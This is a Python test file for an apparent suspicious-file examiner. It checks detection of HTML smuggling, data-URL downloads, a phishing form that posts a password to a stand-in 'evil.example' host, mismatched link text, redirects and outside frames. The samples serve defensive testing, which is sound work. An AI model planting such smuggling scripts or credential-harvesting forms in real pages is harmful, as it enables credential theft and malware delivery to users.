"""Pages: smuggled files, forms, links, what they load and where they lead."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from noroshi.examine.model import Finding
from noroshi.examine.traces import traces_of
from tests.examine import specimens
from tests.examine.test_smuggling import BASE64
from tests.examine.test_walk import codes

if TYPE_CHECKING:
    from tests.examine.conftest import Examine


def page(body: str) -> bytes:
    """A page with this body."""
    return f"<!DOCTYPE html>\n<html><head><title>請求書</title></head><body>{body}</body></html>".encode()


def test_a_smuggled_archive_is_examined_to_its_urls(examined: Examine) -> None:
    """A smuggled archive is examined to its urls."""
    script = f'var b="{BASE64}"; var a=document.createElement("a"); a.download="請求書.zip"; a.click();'
    result = examined(page(f"<script>{script}</script>"), "invoice.html")
    assert "smuggles" in codes(result)
    file = result.nodes[1]
    assert ("smuggled file", "請求書.zip", "zip") == (file.via, file.name, file.type)
    url = next(trace for trace in traces_of(result) if trace.value == "http://inside.example/")
    assert ["html", "zip", "text"] == [node.type for node in result.way(url.provenance[-1])]


def test_a_data_url_with_a_name_is_a_file(examined: Examine) -> None:
    """A data url with a name is a file."""
    link = f'<a href="data:application/octet-stream;base64,{BASE64}" download="a.zip">open</a>'
    result = examined(page(link), "a.html")
    assert ["data-url"] == codes(result)
    assert [("a.zip", "zip")] == [(node.name, node.type) for node in result.nodes[1:2]]


def test_pictures_in_data_urls_are_no_specimens(examined: Examine) -> None:
    """A tracking pixel or a logo."""
    picture = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
    assert 1 == len(examined(page(f'<img src="data:image/gif;base64,{picture}">'), "a.html").nodes)


def test_a_form_that_sends_a_password_away(examined: Examine) -> None:
    """A form that sends a password away."""
    form = (
        '<form action="https://login.evil.example/p.php" method="post"><input name="user">'
        '<input type="password" name="pass"></form><form action="/search"><input name="q"></form>'
    )
    result = examined(page(form), "a.html")
    expected = {"target": "https://login.evil.example/p.php", "fields": "user, pass"}
    assert [("form-password", expected)] == [(one.code, dict(one.values)) for _, one in result.findings()]
    effects = result.of(0)[2]
    assert [{"method": "POST", "url": "https://login.evil.example/p.php"}] == [
        dict(effect.arguments) for effect in effects
    ]


@pytest.mark.parametrize(
    ("text", "target", "differs"),
    [
        ("https://bank.example/login", "http://evil.example/x", True),
        ("bank.example", "https://bank.example.evil.test/", True),
        ("www.bank.example", "https://bank.example/a", False),
        ("bank.example", "https://mail.bank.example/a", False),
        ("click here", "http://evil.example/x", False),
    ],
)
def test_a_link_that_says_another_host(examined: Examine, text: str, target: str, differs: bool) -> None:  # noqa: FBT001
    """A link that says another host."""
    result = examined(page(f'<a href="{target}"><b>{text}</b></a>'), "a.html")
    assert (["link-differs"] if differs else []) == codes(result)


def test_what_leads_away_by_itself(examined: Examine) -> None:
    """A refresh, and a frame from outside."""
    body = (
        '<meta http-equiv="refresh" content="0; url=\'http://next.example/a\'"><iframe src="//x.example/b">'
    )
    result = examined(page(body + '<iframe src="http://frame.example/">'), "a.html")
    assert ["redirects", "loads-from-outside"] == codes(result)


def test_the_html_of_a_mail_is_examined(examined: Examine) -> None:
    """A mail's own text can be the phishing page."""
    raw = specimens.mail("x", {}).decode().replace("text/plain", "text/html").partition("\n\n")[0]
    raw = raw.replace("Content-Transfer-Encoding: 7bit\n", "")
    result = examined(f'{raw}\n\n<a href="http://evil.example/">https://bank.example/</a>'.encode(), "a.eml")
    assert ["eml", "html"] == [node.type for node in result.nodes]
    assert ["link-differs"] == codes(result)


def test_a_broken_page_is_read_as_far_as_it_goes(examined: Examine) -> None:
    """Unclosed tags, scripts and declarations."""
    body = '<![if><a href="http://one.example/"><script>var u = "http://two.example/"; <!-- <div '
    result = examined(page(body), "a.html")
    urls = {trace.value for trace in traces_of(result) if trace.type == "url"}
    assert {"http://one.example/", "http://two.example/"} <= urls
    assert Finding not in {
        type(one) for one in result.told.get(0, []) if getattr(one, "code", "") == "damaged"
    }
